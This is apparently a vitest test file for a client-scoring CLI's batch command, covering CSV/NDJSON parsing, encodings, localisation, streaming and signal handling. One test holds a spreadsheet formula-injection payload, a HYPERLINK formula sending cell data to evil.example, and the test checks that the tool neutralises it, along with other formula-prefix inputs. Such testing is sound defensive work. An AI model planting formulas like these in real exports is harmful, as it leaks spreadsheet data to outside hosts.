import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { BIN, runCli, STACK } from '../helpers/cli.js';
import { defaultPack, root } from '../helpers/packs.js';
import { packFiles } from '../../src/cli/pack-files.js';
import { loadTranslation } from '../../src/pack/load.js';
import { localizePack } from '../../src/pack/overlay.js';

const lateP = JSON.parse(readFileSync(`${root}examples/late-payer.json`, 'utf8'));
const abusive = JSON.parse(readFileSync(`${root}examples/abusive-client.json`, 'utf8'));
const ndjson = [JSON.stringify(lateP), '{"answers": {"pays_lat": "often"}}', JSON.stringify(abusive), '{broken', ''].join('\n');

describe('fire-check batch (built binary)', () => {
  it('NDJSON in, one verdict per line out with the input line number; bad lines carry their error; exit 2', () => {
    const result = runCli(['batch', '--today', '2026-11-22'], { input: ndjson });
    expect(result.code).toBe(2);
    const lines = result.stdout.trim().split('\n').map((l) => JSON.parse(l));
    expect(lines.map((l) => l.line)).toEqual([1, 2, 3, 4]);
    expect(lines[0]).toMatchObject({ schemaVersion: 2, client: 'Brightside Studio', verdict: 'fix', recheckOn: '2026-12-22' });
    expect(lines[1].error.message).toMatch(/stdin: line 2: answers\.pays_lat: unknown question id/);
    expect(lines[2]).toMatchObject({ verdict: 'fire-now', hardStops: ['abuse'] });
    expect(lines[3].error.message).toMatch(/line 4: column 2: not valid JSON/);
    expect(result.stderr).toBe('scored 2, failed 2\n');
  });

  it('each result is the same object --format json gives, plus the line', () => {
    const single = JSON.parse(runCli(['--answers', 'examples/late-payer.json', '--json', '--today', '2026-11-22']).stdout);
    const [first] = runCli(['batch', '--today', '2026-11-22'], { input: JSON.stringify(lateP) }).stdout.trim().split('\n');
    expect(JSON.parse(first as string)).toEqual({ line: 1, ...single });
  });

  it('--fail-fast stops at the first bad line', () => {
    const result = runCli(['batch', '--fail-fast'], { input: ndjson });
    expect(result.code).toBe(2);
    expect(result.stdout.trim().split('\n')).toHaveLength(2);
    expect(result.stderr).toMatch(/^scored 1, failed 1 \(stopped at the first failure: --fail-fast\)/);
  });

  it('CSV in (by extension) and CSV out, quoted where needed', () => {
    const result = runCli(['batch', 'examples/clients.csv', '--format', 'csv']);
    expect(result.code).toBe(0);
    const rows = parse(result.stdout, { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0]!)).toEqual(['line', 'client', 'verdict', 'score', 'confidence', 'top_reasons', 'error']);
    expect(rows.map((r) => [r.client, r.verdict])).toEqual([
      ['Lakeview Bakery', 'keep'], ['Brightside Studio', 'fix'], ['Northwind Holdings', 'fire-now'], ['Vertex Media, Ltd', 'fire'], ['Harbour & Pine', 'keep'],
    ]);
    expect(result.stderr).toBe('scored 5, failed 0\n');
  });

  it("CSV out never holds a live formula: the issue's example", () => {
    const dir = mkdtempSync(`${tmpdir()}/fire-check-`);
    writeFileSync(`${dir}/f.csv`, 'client,pays_late\n"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",often\n');
    const result = runCli(['batch', `${dir}/f.csv`, '--format', 'csv']);
    rmSync(dir, { recursive: true });
    expect(result.stdout.split('\n')[1]).toBe(`2,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",fix,8,0.04,Pays late: often,`);
  });

  it('a formula in every form is neutralised in CSV out; NDJSON out keeps the exact name', () => {
    // [client in, client in CSV out, client in NDJSON out (names are trimmed when read)]
    const cases = [
      ['=1+1', "'=1+1", '=1+1'],
      ['+1+1', "'+1+1", '+1+1'],
      ['-1+1', "'-1+1", '-1+1'],
      ['@SUM(A1)', "'@SUM(A1)", '@SUM(A1)'],
      ['\t=1+1', "'=1+1", '=1+1'],
      ['\r=1+1', "'=1+1", '=1+1'],
      ['   =1+1', "'=1+1", '=1+1'],
      // A tab inside a name is a control character from data: shown as its code in text
      // output (see escape.ts), where it can no longer split the cell.
      ['A\t=1+1', 'A\\u0009=1+1', 'A\t=1+1'],
      ['Acme;=1+1', "Acme;'=1+1", 'Acme;=1+1'],
      ['Caffè Società', 'Caffè Società', 'Caffè Società'],
    ];
    const input = cases.map(([client]) => JSON.stringify({ client, answers: { pays_late: 'often' } })).join('\n');
    const csv = parse(runCli(['batch', '--format', 'csv'], { input }).stdout, { columns: true }) as Record<string, string>[];
    expect(csv.map((r) => [r.client, r.score])).toEqual(cases.map(([, out]) => [out, '8']));
    const ndjson = runCli(['batch', '--format', 'ndjson'], { input }).stdout.trim().split('\n');
    expect(ndjson.map((l) => JSON.parse(l).client)).toEqual(cases.map(([, , exact]) => exact));
  });

  describe('spreadsheet exports as they really are', () => {
    const inDir = (files: Record<string, Buffer>, run: (dir: string) => void) => {
      const dir = mkdtempSync(`${tmpdir()}/fire-check-`);
      try {
        for (const [name, data] of Object.entries(files)) writeFileSync(`${dir}/${name}`, data);
        run(dir);
      } finally {
        rmSync(dir, { recursive: true });
      }
    };
    const clientsOf = (stdout: string) => stdout.trim().split('\n').map((l) => JSON.parse(l).client);

    it('Italian Excel "CSV UTF-8": BOM, CRLF, semicolons, quoted upper-case headers, spaces around cells', () => {
      const csv = '\uFEFF"Client";"PAYS_LATE";"Abuse"\r\n Caffè Società ; often ;no\r\n"Rossi; figli";rarely;\r\n';
      inDir({ 'clienti.csv': Buffer.from(csv) }, (dir) => {
        const result = runCli(['batch', `${dir}/clienti.csv`]);
        expect(result.code).toBe(0);
        expect(clientsOf(result.stdout)).toEqual(['Caffè Società', 'Rossi; figli']);
      });
    });

    it('Windows-1252: refused without --encoding, with the line and what to pass; read right with --encoding windows-1252', () => {
      inDir({ 'clients.csv': Buffer.from('client;pays_late\r\nAcme;often\r\nCaffè Società;often\r\n', 'latin1') }, (dir) => {
        const refused = runCli(['batch', `${dir}/clients.csv`]);
        expect(refused.code).toBe(2);
        expect(refused.stderr).toContain(`fire-check: ${dir}/clients.csv: line 3: not UTF-8 text: it looks like a Windows code page`);
        expect(refused.stderr).toContain('pass --encoding windows-1252');
        expect(refused.stderr).not.toMatch(STACK);
        expect(refused.stdout).not.toContain('\uFFFD');
        expect(clientsOf(refused.stdout)).toEqual(['Acme']);
        const read = runCli(['batch', `${dir}/clients.csv`, '--encoding', 'windows-1252']);
        expect(read.code).toBe(0);
        expect(clientsOf(read.stdout)).toEqual(['Acme', 'Caffè Società']);
        expect(runCli(['batch', `${dir}/clients.csv`, '--lang', 'it']).stderr).toContain('riga 3: non è testo UTF-8');
      });
    });

    it('Excel "Unicode text" (UTF-16LE with BOM, tabs) is read without being told; without its BOM, refused with the encoding to pass', () => {
      const text = 'client\tpays_late\r\nCaffè Società\toften\r\n';
      inDir({ 'clients.tsv': Buffer.from(`\uFEFF${text}`, 'utf16le'), 'nobom.tsv': Buffer.from(text, 'utf16le') }, (dir) => {
        expect(clientsOf(runCli(['batch', `${dir}/clients.tsv`]).stdout)).toEqual(['Caffè Società']);
        const refused = runCli(['batch', `${dir}/nobom.tsv`]);
        expect(refused.code).toBe(2);
        expect(refused.stderr).toBe(`fire-check: ${dir}/nobom.tsv: not UTF-8 text: it looks like UTF-16LE without a byte-order mark; pass --encoding utf16le [input/utf16-without-bom]\n`);
        expect(clientsOf(runCli(['batch', `${dir}/nobom.tsv`, '--encoding', 'utf16le']).stdout)).toEqual(['Caffè Società']);
      });
    });

    it('NDJSON: a BOM on the first line is dropped; Windows-1252 is refused, and read with --encoding', () => {
      const line = JSON.stringify({ client: 'Caffè Società', answers: { pays_late: 'often' } });
      expect(clientsOf(runCli(['batch'], { input: `\uFEFF${line}\r\n` }).stdout)).toEqual(['Caffè Società']);
      inDir({ 'c.ndjson': Buffer.from(`${line}\n`, 'latin1') }, (dir) => {
        expect(runCli(['batch', `${dir}/c.ndjson`]).stderr).toMatch(/c\.ndjson: line 1: not UTF-8 text/);
        expect(clientsOf(runCli(['batch', `${dir}/c.ndjson`, '--encoding', 'latin1']).stdout)).toEqual(['Caffè Società']);
      });
    });

    it('--encoding takes only the encodings there are, and is explained in every language', () => {
      const bad = runCli(['batch', '--encoding', 'utf-7'], { input: '' });
      expect(bad.code).toBe(2);
      expect(bad.stderr).toMatch(/--encoding <name>.*utf-7.*utf8, utf16le, utf16be, windows-1252, windows-1250, latin1/);
      for (const [lang, words] of [['en', "the input's encoding"], ['it', 'la codifica'], ['hu', 'a bemenet kódolása'], ['th', 'การเข้ารหัส']]) {
        expect(runCli(['batch', '--help', '--lang', lang as string]).stdout).toMatch(new RegExp(`--encoding <name>\\s+${words}`));
      }
    });
  });

  it('a ranked table, worst first', () => {
    const result = runCli(['batch', 'examples/clients.csv', '--format', 'table']);
    const clients = result.stdout.trim().split('\n').slice(2).map((l) => l.split(/\s{2,}/)[1]);
    expect(clients).toEqual(['Northwind Holdings', 'Vertex Media, Ltd', 'Brightside Studio', 'Lakeview Bakery', 'Harbour & Pine']);
  });

  it.each(['en', 'it', 'hu', 'th'])('%s: the table names verdicts as the reports do (the pack\'s titles in the language); NDJSON and CSV keep the ids', (lang) => {
    const verdicts = (lang === 'en' ? defaultPack() : localizePack(defaultPack(), loadTranslation(`${root}rules/default.${lang}.yaml`, defaultPack(), packFiles()))).verdicts;
    const args = ['batch', 'examples/clients.csv', '--today', '2026-11-22', '--lang', lang];
    const ids = runCli(args).stdout.trim().split('\n').map((l) => JSON.parse(l).verdict as keyof typeof verdicts);
    const shown = runCli([...args, '--format', 'table']).stdout.trim().split('\n').slice(2).map((l) => l.split(/\s{2,}/)[2]);
    expect(shown.sort()).toEqual(ids.map((id) => verdicts[id].title).sort());
    expect(shown).not.toEqual(expect.arrayContaining(['fire', 'fix', 'keep', 'fire-now']));
    const csv = parse(runCli([...args, '--format', 'csv']).stdout, { columns: true }) as { verdict: string }[];
    expect(csv.map((r) => r.verdict).sort()).toEqual([...ids].sort());
  });

  it.each([
    ['en', '(line 2)'],
    ['it', '(riga 2)'],
    ['hu', '(2. sor)'],
    ['th', '(บรรทัด 2)'],
  ])('%s: a row with no client name stands in the table as its line', (lang, shown) => {
    const input = `${JSON.stringify({ client: 'Acme', answers: { pays_late: 'never' } })}\n${JSON.stringify({ answers: { abuse: 'yes' } })}\n`;
    const rows = runCli(['batch', '--format', 'table', '--lang', lang], { input }).stdout.trim().split('\n').slice(2);
    expect(rows.map((l) => l.split(/\s{2,}/)[1])).toEqual([shown, 'Acme']);
  });

  it('--input-format reads CSV from stdin; a bad header is one clear error', () => {
    const ok = runCli(['batch', '--input-format', 'csv'], { input: 'client,pays_late\nA,often\n' });
    expect(JSON.parse(ok.stdout)).toMatchObject({ line: 2, client: 'A' });
    const bad = runCli(['batch', '--input-format', 'csv'], { input: 'client,pays_lat\nA,often\n' });
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/column "pays_lat" is not a question id \(did you mean "pays_late"\?\)/);
    expect(bad.stderr).not.toMatch(STACK);
  });

  it('an unknown extension or a missing file says what to do', () => {
    expect(runCli(['batch', 'README.md']).stderr).toMatch(/cannot tell the format of README\.md from its name; pass --input-format ndjson or --input-format csv/);
    expect(runCli(['batch', 'nope.csv']).stderr).toMatch(/cannot read batch input nope\.csv: no such file/);
  });

  it("says its own errors in the user's language", () => {
    expect(runCli(['batch', 'README.md', '--lang', 'it']).stderr).toMatch(/impossibile capire il formato di README\.md dal nome; usa --input-format ndjson/);
    const header = runCli(['batch', '--input-format', 'csv', '--lang', 'hu'], { input: 'client,pays_lat\nA,often\n' });
    expect(header.stderr).toMatch(/stdin: 1\. sor: a\(z\) "pays_lat" oszlop nem kérdésazonosító/);
    const rows = runCli(['batch', '--input-format', 'csv', '--lang', 'th'], { input: 'client,pays_late\nA,often,extra\n' });
    expect(JSON.parse(rows.stdout).error.message).toBe('stdin: บรรทัด 2: แถว: มี 3 ช่อง แต่หัวตารางมี 2');
  });

  it('streams: a result comes out before the input has ended', async () => {
    const child = spawn(process.execPath, [BIN, 'batch'], { cwd: root, stdio: ['pipe', 'pipe', 'pipe'] });
    child.stdin.write(`${JSON.stringify(lateP)}\n`);
    const [chunk] = await once(child.stdout, 'data');
    expect(JSON.parse(String(chunk))).toMatchObject({ line: 1, verdict: 'fix' });
    child.stdin.end();
    const [code] = await once(child, 'exit');
    expect(code).toBe(0);
  });

  it.each([
    ['SIGTERM', 143],
    ['SIGINT', 130],
  ] as const)('%s stops it at once: what was scored is out, the summary says so, and it ends by that signal (a shell shows %i)', async (signal, _shown) => {
    const child = spawn(process.execPath, [BIN, 'batch', '--today', '2026-11-22'], { cwd: root, stdio: ['pipe', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk) => (stdout += chunk));
    child.stderr.on('data', (chunk) => (stderr += chunk));
    // Records arrive, and then the input stays open, as from a slow export.
    child.stdin.write(`${Array.from({ length: 500 }, (_, i) => JSON.stringify({ ...lateP, client: `Client ${i}` })).join('\n')}\n`);
    while (stdout.split('\n').length < 500) await once(child.stdout, 'data');
    child.kill(signal);
    // Ended by the signal, as a program with no handler would be, once the scored records are out:
    // a shell running it in a loop stops there too.
    const [code, endedBy] = await once(child, 'exit');
    expect([code, endedBy]).toEqual([null, signal]);
    const lines = stdout.trimEnd().split('\n');
    expect(lines).toHaveLength(500);
    for (const line of lines) expect(JSON.parse(line)).toMatchObject({ verdict: 'fix' });
    expect(stderr).toBe('scored 500, failed 0 (stopped: asked to stop; everything scored until then is above)\n');
  });

  it('SIGTERM ends it even when its reader has stopped reading: it waits a moment for the reader, says what was lost, and ends by the signal', async () => {
    const child = spawn(process.execPath, [BIN, 'batch', '--today', '2026-11-22'], { cwd: root, stdio: ['pipe', 'pipe', 'pipe'] });
    let stderr = '';
    child.stderr.on('data', (chunk) => (stderr += chunk));
    // stdout is never read: once the pipe is full, every write waits for a reader that does not come.
    child.stdin.on('error', () => {}); // the rest of the input is refused when it stops
    child.stdin.write(`${Array.from({ length: 3000 }, (_, i) => JSON.stringify({ ...lateP, client: `Client ${i}` })).join('\n')}\n`);
    await new Promise((resolve) => setTimeout(resolve, 1500));
    const asked = Date.now();
    child.kill('SIGTERM');
    const [code, endedBy] = await once(child, 'exit');
    expect([code, endedBy]).toEqual([null, 'SIGTERM']);
    expect(Date.now() - asked).toBeLessThan(10_000);
    expect(stderr).toMatch(/^scored [\d,]+, failed 0 \(stopped: asked to stop while the output was not being read; what its reader had not taken is lost\)\n$/);
  }, 20_000);

  it.runIf(process.platform === 'linux')('leaves its stdout pipe as it found it (blocking): other programs writing into the same pipe keep working', async () => {
    const child = spawn(process.execPath, [BIN, 'batch', '--today', '2026-11-22'], { cwd: root, stdio: ['pipe', 'pipe', 'pipe'] });
    child.stdin.on('error', () => {});
    child.stdin.write(`${Array.from({ length: 3000 }, (_, i) => JSON.stringify({ ...lateP, client: `Client ${i}` })).join('\n')}\n`);
    // Not read yet: the pipe fills and the batch waits on it.
    await new Promise((resolve) => setTimeout(resolve, 1000));
    const flags = Number.parseInt(/^flags:\s*(\d+)/m.exec(readFileSync(`/proc/${child.pid}/fdinfo/1`, 'utf8'))?.[1] ?? 'x', 8);
    expect(flags & 0o4000).toBe(0); // O_NONBLOCK
    child.stdout.resume();
    child.stdin.end();
    const [code] = await once(child, 'exit');
    expect(code).toBe(0);
  }, 20_000);

  it('a line longer than --max-record-size is an error of its own, read past without holding it; the rest are scored', () => {
    const long = JSON.stringify({ client: 'x'.repeat(5000), answers: {} });
    const input = [JSON.stringify(lateP), long, JSON.stringify(lateP)].join('\n');
    const result = runCli(['batch', '--today', '2026-11-22', '--max-record-size', '1000'], { input });
    expect(result.code).toBe(2);
    const lines = result.stdout.trimEnd().split('\n').map((l) => JSON.parse(l));
    expect(lines.map((l) => l.line)).toEqual([1, 2, 3]);
    expect(lines[1].error.message).toBe('stdin: line 2: row: longer than 1,000 characters (--max-record-size); skipped');
    expect(lines[2]).toMatchObject({ verdict: 'fix' });
    expect(runCli(['batch', '--max-record-size', '0'], { input }).stderr).toBe('fire-check: --max-record-size "0" is not a number of characters; give a whole number above 0, e.g. 1000000 [cli/bad-max-record-size]\n');
  });

  it('a folder given as stdin says what it is, exit 2', () => {
    const result = spawnSync('sh', ['-c', `"${process.execPath}" "${BIN}" batch < "${root}rules"`], { cwd: root, encoding: 'utf8' });
    expect(result.status).toBe(2);
    expect(result.stderr).toBe('fire-check: cannot read batch input stdin: it is a directory [io/not-readable]\n');
  });

  it('ends quietly when the reader closes the pipe', () => {
    const many = Array.from({ length: 3000 }, () => JSON.stringify(lateP)).join('\n');
    const result = spawnSync('sh', ['-c', `"${process.execPath}" "${BIN}" batch | head -1`], { cwd: root, input: many, encoding: 'utf8' });
    expect(result.status).toBe(0);
    expect(JSON.parse(result.stdout)).toMatchObject({ line: 1 });
    expect(result.stderr).toBe('');
  });

  // Node's own child processes always get blocking stdio, so the pipe is made by Python.
  const python = spawnSync('python3', ['--version']).status === 0;
  it.skipIf(!python)('into a full non-blocking pipe, waits for the reader and loses nothing', () => {
    const many = `${Array.from({ length: 2000 }, (_, i) => JSON.stringify({ ...abusive, client: `Client ${i}` })).join('\n')}\n`;
    const dir = mkdtempSync(`${tmpdir()}/fire-check-`);
    writeFileSync(`${dir}/in.ndjson`, many);
    const expected = runCli(['batch', '--today', '2026-11-22', `${dir}/in.ndjson`]).stdout;
    const args = [BIN, 'batch', '--today', '2026-11-22', `${dir}/in.ndjson`];
    const result = spawnSync('python3', [`${root}tests/helpers/nonblocking-pipe.py`, process.execPath, ...args], { cwd: root, encoding: 'utf8', maxBuffer: 1 << 26 });
    rmSync(dir, { recursive: true });
    expect(result.status).toBe(0);
    expect(result.stdout).toBe(expected);
  });

  it('shows no progress when stderr is not a terminal', () => {
    const result = runCli(['batch'], { input: JSON.stringify(lateP) });
    expect(result.stderr).toBe('scored 1, failed 0\n');
  });
});

it('reads a named pipe (as `fire-check batch <(crm-export)` gives it); refuses a directory', () => {
  const lines = `${JSON.stringify(lateP)}\n${JSON.stringify(abusive)}\n`;
  const piped = spawnSync('bash', ['-c', `"${process.execPath}" "${BIN}" batch <(printf '%s' "$LINES")`], { cwd: root, encoding: 'utf8', env: { ...process.env, LINES: lines } });
  expect(piped.status).toBe(0);
  expect(piped.stdout.trim().split('\n').map((l) => JSON.parse(l).verdict)).toEqual(['fix', 'fire-now']);
  const dir = runCli(['batch', 'tests']);
  expect(dir.code).toBe(2);
  expect(dir.stderr).toBe('fire-check: cannot read batch input tests: it is a directory [io/not-readable]\n');
});
